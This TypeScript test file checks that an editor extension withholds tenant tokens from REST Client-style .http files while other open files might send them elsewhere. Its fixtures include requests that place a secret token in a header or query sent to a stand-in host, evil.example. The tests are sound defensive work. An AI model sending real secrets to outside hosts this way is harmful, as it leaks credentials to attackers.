import assert from 'node:assert/strict';
import { setImmediate } from 'node:timers/promises';
import { editor } from '../support/vscode.js';
import { OpenReferences } from '../../src/editor/references/openReferences.js';
import { Pieces } from '../../src/editor/pieces.js';
import { HostConsents } from '../../src/tenants/hostConsents.js';
import { ProductionConsents } from '../../src/tenants/productionConsents.js';
import type { FakeDocument } from '../support/document.js';
import { Range, Uri } from '../support/vscodeTypes.js';
import { known } from './support/known.js';

const NAME = 'TENANT_TOKEN_ACME';
const OURS = `GET https://acme.example/x\nAuthorization: Bearer {{$processEnv ${NAME}}}`;
const LONG = 'GET https://evil.example/\n\n###\n'.repeat(1000);

describe('The references in open files', () => {
  let references: OpenReferences;
  let ends: (() => void)[];
  /** How long each step of a reading takes. */
  let stepMs: number;

  beforeEach(async () => {
    editor.reset();
    editor.install('humao.rest-client');
    let now = 0;
    ends = [];
    stepMs = 1;
    const pieces = new Pieces(
      () => (now += stepMs),
      () => new Promise((resolve) => ends.push(resolve)),
    );
    const { tenants, names, issued } = await known();
    const given = { consents: new HostConsents(), production: new ProductionConsents() };
    references = new OpenReferences({ tenants, names, issued }, given, pieces);
  });

  afterEach(() => {
    references.dispose();
    editor.reset();
  });

  const open = (name: string, text: string): FakeDocument => editor.open(text, { uri: Uri.file(`/${name}.http`) }).document;

  async function nextPiece(): Promise<void> {
    for (const end of ends.splice(0)) end();
    await setImmediate();
  }

  /** @returns after how many pieces something is wanted, or everything has been read */
  async function read(): Promise<number> {
    for (let pieces = 0; ; pieces++) {
      if (ends.length === 0 || references.wanted.size > 0) return pieces;
      await nextPiece();
    }
  }

  it('are judged at once by what has been written into a short file, however slow the machine is', () => {
    stepMs = 1000;
    const document = open('ours', 'GET https://acme.example/x\n');
    document.change([{ range: new Range(1, 0, 1, 0), text: OURS.slice(OURS.indexOf('\n') + 1) }]);
    references.look();
    assert.deepEqual([...references.wanted], [NAME]);
    assert.equal(references.withheldBy(NAME), undefined);
  });

  it('are withheld because of a long file until all of it has been read', async () => {
    open('ours', OURS);
    assert.deepEqual([...references.wanted], [NAME]);
    const long = open('long', LONG);
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.uri, long.uri);
    assert.ok((await read()) > 1);
    assert.deepEqual([...references.wanted], [NAME]);
  });

  it('are withheld because of the last line of a long file', async () => {
    open('ours', OURS);
    open('long', `${LONG}GET https://evil.example/\nX: {{$processEnv ${NAME}}}`);
    await read();
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.line, 3001);
  });

  for (const fork of ['argalla.httpkeeper', 'tutilus.rest-client-next'])
    it(`are judged for ${fork} as for REST Client`, () => {
      editor.reset();
      open('ours', OURS);
      references.look();
      assert.deepEqual([...references.wanted], []);
      editor.install(fork);
      references.look();
      assert.deepEqual([...references.wanted], [NAME]);
      open('other', OURS.replace('acme.example', 'evil.example'));
      assert.deepEqual([...references.wanted], []);
    });

  it('are withheld while HttpKeeper is installed and a file imports another, which may hold any use', () => {
    open('ours', OURS);
    const importing = open('importing', 'GET https://evil.example/?{{t}}\n\nimport ./b.http');
    assert.deepEqual([...references.wanted], [NAME]);
    editor.install('argalla.httpkeeper');
    references.look();
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.uri, importing.uri);
    assert.equal(references.withheldBy(NAME)?.line, 2);
  });

  it('are judged by the latest text of a long file that changes between two pieces', async () => {
    open('ours', OURS);
    const long = open('long', LONG);
    await nextPiece();
    long.change([{ range: new Range(1, 0, 1, 0), text: `X: {{$processEnv ${NAME}}}` }]);
    await read();
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.line, 1);
  });
});
